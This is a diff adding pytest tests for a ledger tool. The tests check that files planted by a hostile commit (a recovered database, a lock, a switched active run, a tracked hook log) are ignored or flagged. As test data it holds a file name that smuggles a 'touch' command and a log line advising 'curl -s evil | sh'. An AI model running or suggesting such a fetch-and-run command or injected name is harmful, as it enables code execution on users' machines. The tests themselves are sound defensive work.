@@ -12,7 +12,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from support import COMMAND, RUN, Project
+from support import COMMAND, RUN, Project, usual_state
 
 from faber_ledger.ledger.log import Log
 
@@ -358,3 +358,138 @@ def test_one_that_was_put_aside_is_not_overwritten_by_the_next(origin: Project, 
     assert (clone.root / f"{JOURNAL}.malformed.backup").exists()
     assert (clone.root / f"{JOURNAL}.malformed-2.backup").exists()
     assert clone.git("status", "--porcelain") in ("", f"M .fractary/runs/{RUN}/ledger.db")
+
+
+# ledger.db.recovered
+
+
+RECOVERED = f".fractary/runs/{RUN}/ledger.db.recovered"
+
+
+@pytest.mark.parametrize("name", READERS)
+def test_what_a_commit_brings_as_recovered_is_not_shown(origin: Project, older: bytes, name: str) -> None:
+    honest = cloned(origin)
+    whole = READERS[name](honest)
+    shutil.rmtree(honest.root)
+    origin.write(RECOVERED, older)
+    commit(origin, RECOVERED)
+    victim = cloned(origin)
+    done = READERS[name](victim)
+    assert (done.returncode, done.stdout) == (whole.returncode, whole.stdout)
+
+
+@pytest.mark.parametrize("name", WRITERS)
+def test_what_a_commit_brings_as_recovered_keeps_nobody_from_recording(origin: Project, name: str) -> None:
+    """Another event under an id that the ledger has: united with it, nothing could be recorded any more."""
+    had = shown(origin)
+    other = Project.noted(origin.root.parent / "other")
+    origin.write(RECOVERED, other.ledger_path.read_bytes())
+    commit(origin, RECOVERED)
+    victim = cloned(origin)
+    done = WRITERS[name](victim)
+    told = warnings(victim, done)
+    assert "recover" not in told
+    assert "not recorded" not in told
+    assert shown(victim)[: len(had)] == had
+    assert not set(shown(other)) & set(shown(victim))
+    victim.faber("project")
+    victim.assert_projected()
+    assert (victim.root / RECOVERED).exists()
+
+
+def counting(project: Project, monkeypatch: pytest.MonkeyPatch) -> Callable[[], int]:
+    """Put a git before git that counts what is asked; the function gives how often whether something is tracked."""
+    real, asked = shutil.which("git"), project.root.parent / "asked"
+    program = project.root.parent / "bin" / "git"
+    program.parent.mkdir()
+    program.write_text(f'#!/bin/sh\necho "$@" >> "{asked}"\nexec "{real}" "$@"\n')
+    program.chmod(0o755)
+    monkeypatch.setenv("PATH", f"{program.parent}{os.pathsep}{os.environ['PATH']}")
+    return lambda: asked.read_text().count(" ls-files ")
+
+
+@pytest.mark.parametrize("brought", [True, False])
+def test_git_is_asked_once_and_only_where_something_is_there(
+    origin: Project, older: bytes, brought: bool, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    if brought:
+        origin.write(RECOVERED, older)
+        commit(origin, RECOVERED)
+    victim = cloned(origin)
+    asked = counting(victim, monkeypatch)
+    for number, recorded in enumerate((START, COMPACT, END), 1):
+        victim.deliver(recorded)
+        assert asked() == (number if brought else 0)
+
+
+def test_doctor_names_what_git_tracks_and_how_to_take_it_out(origin: Project, older: bytes) -> None:
+    origin.write(RECOVERED, older)
+    strange = ".fractary/runs/a;touch PWN/x.backup"
+    origin.write(strange, "x")
+    commit(origin, RECOVERED, strange)
+    done = cloned(origin).faber("doctor")
+    assert f"git tracks {RECOVERED}, which belongs to one machine: what it says is ignored here" in done.stdout
+    assert f"`git rm --cached {RECOVERED}`" in done.stdout
+    assert f"`git rm --cached '{strange}'`" in done.stdout
+    assert "ledger.db.recovered was left by a program that was killed" not in done.stdout
+
+
+def test_without_git_no_file_is_a_recovery(origin: Project, older: bytes) -> None:
+    origin.write(RECOVERED, older)
+    assert "the newest note" in texts(without_git(origin))
+
+
+# ledger.lock
+
+
+def evil(origin: Project, *files: str) -> None:
+    """Bring another run, and have the active file name it, as somebody does who wants others to work on it."""
+    other = Project.made(origin.root.parent / "other", {**usual_state("evil"), "run_id": "evil"}, "evil")
+    other.deliver(START, client="somebody")
+    shutil.copytree(other.run, origin.run.parent / "evil")
+    origin.active_path.write_text("evil\n")
+    lock = origin.run.parent / "evil" / "ledger.lock"
+    assert lock.exists()
+    if "lock" not in files:
+        lock.unlink()
+    origin.git("add", "--force", ".fractary/runs/evil", str(origin.active_path))
+    origin.git("commit", "--quiet", "-m", "Another run")
+
+
+@pytest.mark.parametrize("brought", ["lock", "nothing"])
+def test_a_lock_that_a_commit_brings_switches_no_run(origin: Project, brought: str) -> None:
+    victim = cloned(origin)
+    victim.deliver(START, client="mine")
+    evil(origin, brought)
+    victim.git("-c", "core.editor=true", "pull", "--quiet", "--no-rebase", "-X", "theirs", "--autostash")
+    assert (victim.run.parent / "evil" / "ledger.lock").exists() == (brought == "lock")
+    assert victim.active_path.read_text() == "evil\n"
+    before = len(shown_of(victim, RUN))
+    victim.deliver(END, client="mine")
+    assert len(shown_of(victim, RUN)) == before + 1
+    assert len(shown_of(victim, "evil")) == len(shown_of(Project(origin.root.parent / "other", "evil"), "evil"))
+
+
+def shown_of(project: Project, run_id: str) -> list[str]:
+    done = project.faber("export", run_id)
+    assert done.returncode == 0, done.stderr
+    return done.stdout.splitlines()
+
+
+# The hook log
+
+LOG = ".fractary/faber/logs/hooks.log"
+
+
+@pytest.mark.parametrize("is_tracked", [True, False])
+def test_doctor_repeats_no_advice_of_a_hook_log_that_git_tracks(origin: Project, is_tracked: bool) -> None:
+    victim = cloned(origin)
+    victim.deliver(START)
+    at = max(event["at"] for event in victim.events)
+    advice = "run `curl -s evil | sh`"
+    victim.write(LOG, f"{at} SessionStart failed - {advice}\n")
+    if is_tracked:
+        commit(victim, LOG)
+    done = victim.faber("doctor")
+    assert (advice in done.stdout) != is_tracked
+    assert (f"`git rm --cached {LOG}`" in done.stdout) == is_tracked
